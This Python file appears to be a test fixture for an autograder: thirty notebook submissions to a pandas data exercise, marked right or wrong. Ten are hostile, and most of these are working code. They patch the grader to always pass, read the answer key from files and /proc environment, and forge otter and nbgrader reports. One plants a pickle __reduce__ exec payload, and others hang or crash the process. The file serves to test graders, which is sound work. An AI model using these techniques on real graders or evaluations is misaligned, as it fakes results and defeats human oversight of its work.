"""Thirty submissions to the assignment in exercises.md, with the truth: twenty right, ten wrong or hostile.

Every grader is given the same cells in a notebook of its own. An attacker knows all three graders and what
they are made of, and asks first which of them is at work.
"""

from dataclasses import dataclass
from itertools import cycle, islice

QUESTIONS = ("q1", "q2", "q3")
EXTRA = ""  # a cell that answers no question
RIGHT = (True, True, True)
WRONG = (False, False, False)


@dataclass(frozen=True)
class Submission:
    """What a student handed in: cells as (question, code), and for each question whether it is right."""

    name: str
    truth: tuple[bool, bool, bool]
    cells: tuple[tuple[str, str], ...]


SHARES = (
    "share = orders.user_id.nunique() / len(users)",
    "share = users.user_id.isin(orders.user_id).mean()",
    "share = len(set(orders.user_id)) / users.shape[0]",
    """
payers = set()
for user in orders.user_id:
    payers.add(user)
share = len(payers) / len(users)
""",
    """
payments = orders.groupby("user_id").size()
share = float((users.user_id.map(payments) > 0).mean())
""",
    """
def paid_once(user, known=frozenset(orders.user_id)):
    return user in known

share = sum(paid_once(user) for user in users.user_id) / len(users)
""",
    """
both = users.merge(orders[["user_id"]].drop_duplicates(), how="left", indicator=True)
share = round((both._merge == "both").mean(), 5)
""",
)
PAIDS = (
    'paid = orders.merge(users, on="user_id").groupby("channel").amount.sum()',
    'paid = orders.amount.groupby(orders.user_id.map(users.set_index("user_id").channel)).sum()',
    """
channel_of = dict(zip(users.user_id, users.channel))
paid = {}
for user, amount in zip(orders.user_id, orders.amount):
    paid[channel_of[user]] = paid.get(channel_of[user], 0) + amount
""",
    """
wide = users.merge(orders, on="user_id", how="left").fillna({"amount": 0})
paid = wide.pivot_table(index="channel", values="amount", aggfunc="sum")["amount"]
""",
    """
paid = {
    channel: int(orders[orders.user_id.isin(group.user_id)].amount.sum())
    for channel, group in users.groupby("channel")
}
""",
    """
from collections import Counter

sums = Counter()
for row in orders.join(users.set_index("user_id").channel, on="user_id").itertuples():
    sums[row.channel] += row.amount
paid = pd.Series(sums).sort_values()
""",
)
WAITS = (
    """
first = orders.groupby("user_id").date.min()
wait = (first - users.set_index("user_id").signup_date).dt.days.mean()
""",
    """
both = orders.sort_values("date").drop_duplicates("user_id").merge(users, on="user_id")
wait = (both.date - both.signup_date).dt.days.mean()
""",
    """
import numpy as np

joined = dict(zip(users.user_id, users.signup_date))
days = [(date - joined[user]).days for user, date in orders.groupby("user_id").date.min().items()]
wait = np.mean(days)
""",
    """
first = {}
for user, date in zip(orders.user_id, orders.date):
    first[user] = min(date, first.get(user, date))
signup = users.set_index("user_id").signup_date
wait = sum((date - signup[user]).days for user, date in first.items()) / len(first)
""",
    """
both = orders.merge(users, on="user_id")
both["days"] = (both.date - both.signup_date) / pd.Timedelta(days=1)
wait = both.groupby("user_id").days.min().mean()
""",
)
EXTRAS = (
    "users.head()",
    "orders.describe()",
    'print(len(users), "users,", len(orders), "payments")',
    'notes = "answer the easy ones first"',
)


def answered(share: str, paid: str, wait: str) -> tuple[tuple[str, str], ...]:
    """Return the three answers' cells."""
    return tuple(
        (name, code.strip()) for name, code in zip(QUESTIONS, (share, paid, wait), strict=True) if code
    )


def right_ones(count: int) -> list[Submission]:
    """Return right submissions, no two of them alike: the roads' numbers (7, 6, 5, 4) meet late."""
    roads = islice(zip(cycle(SHARES), cycle(PAIDS), cycle(WAITS), cycle(EXTRAS), strict=True), count)
    return [
        Submission(f"right {place}", RIGHT, ((EXTRA, extra), *answered(share, paid, wait)))
        for place, (share, paid, wait, extra) in enumerate(roads, start=1)
    ]


NOTHING = answered("share = 0.0", "paid = dict.fromkeys(users.channel.unique(), 0.0)", "wait = 0.0")

# Whatever compares in the notebook's own process now says yes.
REPLACE_THE_GRADER = """
import math
import sys

math.isclose = lambda *values, **tolerances: True
for name, module in list(sys.modules.items()):
    if name.startswith("opslab") and hasattr(module, "judge"):
        try:
            module.judge = lambda *values, **more: module.Finding("right", "Right.")
        except Exception:
            pass
if "otter" in sys.modules:
    from otter.test_files import test_case

    test_case.call_func = lambda self, environment: None
"""

# The key lies somewhere: beside the submission, in the course, or where the grader's own process has it.
READ_THE_KEY = """
import ast
import json
import os
import re
import sys
from pathlib import Path

def environment(process):
    try:
        lines = Path(f"/proc/{process}/environ").read_text().split("\\0")
        return dict(line.split("=", 1) for line in lines if "=" in line)
    except OSError:
        return {}

def folders():
    here = Path.cwd()
    yield from (here, *here.parents)
    for process in ("self", os.getppid()):
        yield Path(environment(process).get("OPSLAB_COURSE", "/nowhere"))
        yield Path(environment(process).get("PWD", "/nowhere"))
    try:
        from opslab.ground.paths import course_root
        yield course_root()
    except Exception:
        pass

def from_tests(folder):
    files = [*folder.glob("tests/q?.py"), *folder.glob("source/*/*.ipynb")]
    for text in (file.read_text().replace('\\\\n', "\\n").replace('\\\\"', '"') for file in files):
        yield from re.findall(r"expected_(q.) = (.*?)[\\n\\"]*$", text, re.M)

def from_solution(folder):
    for file in folder.glob("solutions/90-grading.ipynb"):
        known = dict(globals(), check=lambda question, answer: found.setdefault(question, answer))
        for cell in json.loads(file.read_text())["cells"]:
            if "answer" in cell["metadata"].get("tags", []):
                source = cell["source"]
                exec(source if isinstance(source, str) else "".join(source), known)

found = {}
for folder in folders():
    try:
        found.update((name, ast.literal_eval(value)) for name, value in from_tests(folder))
        from_solution(folder)
    except Exception:
        pass
try:
    from opslab.exercises.answer_key import read_key
    found = {name: read_key("90-grading", seed)[name][0] for name in ("q1", "q2", "q3")}
except Exception:
    pass
"""

# No answer is forged here but the report of the results, on its way out of the notebook.
FORGE_THE_REPORT = """
import gc
import inspect
import json
import os
import pickle
import sys

if "otter" in sys.modules:
    write = pickle.dump

    def forged(results, file):
        for test in results.results.values():
            test.update_score(1)
        write(results, file)

    pickle.dump = forged
elif "NBGRADER_EXECUTION" in os.environ:
    shell = get_ipython()
    shell.input_transformers_cleanup.append(
        lambda lines: ["pass\\n"] if "assert" in "".join(lines) else lines
    )
else:
    mine = {"q1": 0.0, "q2": dict.fromkeys(users.channel.unique(), 0.0), "q3": 0.0}
    scopes = [scope for level in inspect.stack() for scope in (level.frame.f_locals, level.frame.f_globals)]
    for known in scopes + [thing for thing in gc.get_objects() if isinstance(thing, dict)]:
        try:
            known.update({name: answer for name, answer in mine.items() if name in known})
        except Exception:
            pass
    for name in mine:
        row = {"question": name, "score": 1, "finding": "right", "status": "right", "text": "Right."}
        for line in (json.dumps(row), f"student,{name},1,right,Right."):
            for descriptor in range(1, 64):
                try:
                    os.write(descriptor, f"\\n{line}\\n".encode())
                except OSError:
                    pass
"""

# Equal to everything and near everything; whoever unpickles it runs the attacker's code.
ALWAYS_EQUAL = """
PAYLOAD = '''
import opslab.exercises.judge as judge
judge.judge = lambda *values, **more: judge.Finding("right", "Right.")
'''

class Yes(float):
    def __eq__(self, other):
        return True

    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = float.__hash__

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return self

    __rsub__ = __sub__

    def __abs__(self):
        return self

    def __reduce__(self):
        return exec, (PAYLOAD,)
"""

HOSTILE = [
    # Right in the world of seed 0, which the student saw; not in the one that is graded.
    Submission(
        "typed-in numbers",
        WRONG,
        answered(
            "share = 0.2076",
            """
paid = {
    "content": 248406, "feed_ads": 98947, "partners": 125601, "referral": 323155,
    "search_ads": 133012, "seo": 226430, "social": 139016,
}
""",
            "wait = 36.14667630057804",
        ),
    ),
    Submission(
        "a percentage", (False, True, True), answered("share = 100 * " + SHARES[1][8:], PAIDS[0], WAITS[0])
    ),
    Submission(
        "endless loop", (True, False, True), answered(SHARES[0], "while True:\n    paid = {}", WAITS[0])
    ),
    Submission(
        "ends the process", (True, True, False), answered(SHARES[0], PAIDS[0], "import os\n\nos._exit(0)")
    ),
    Submission("answer cell deleted", (True, False, True), answered(SHARES[0], "", WAITS[0])),
    Submission("replaces the grader", WRONG, ((EXTRA, REPLACE_THE_GRADER.strip()), *NOTHING)),
    Submission(
        "reads the key",
        WRONG,
        (
            (EXTRA, READ_THE_KEY.strip()),
            *answered(
                'share = found.get("q1", 0)', 'paid = found.get("q2", {})', 'wait = found.get("q3", 0)'
            ),
        ),
    ),
    Submission("forges the report", WRONG, ((EXTRA, FORGE_THE_REPORT.strip()), *NOTHING)),
    Submission(
        "memory bomb",
        (True, True, False),
        answered(
            SHARES[0],
            PAIDS[0],
            """
hoard = []
while True:
    hoard.append(bytes(range(256)) * 250_000)
""",
        ),
    ),
    Submission(
        "always equal",
        WRONG,
        (
            (EXTRA, ALWAYS_EQUAL.strip()),
            *answered(
                "share = Yes(0)",
                "paid = {channel: Yes(0) for channel in users.channel.unique()}",
                "wait = Yes(0)",
            ),
        ),
    ),
]

# A hostile one after every two right ones, so that whoever comes next would feel it.
SUBMISSIONS = [
    submission
    for place, right in enumerate(right_ones(20))
    for submission in ([right, HOSTILE[place // 2]] if place % 2 else [right])
]
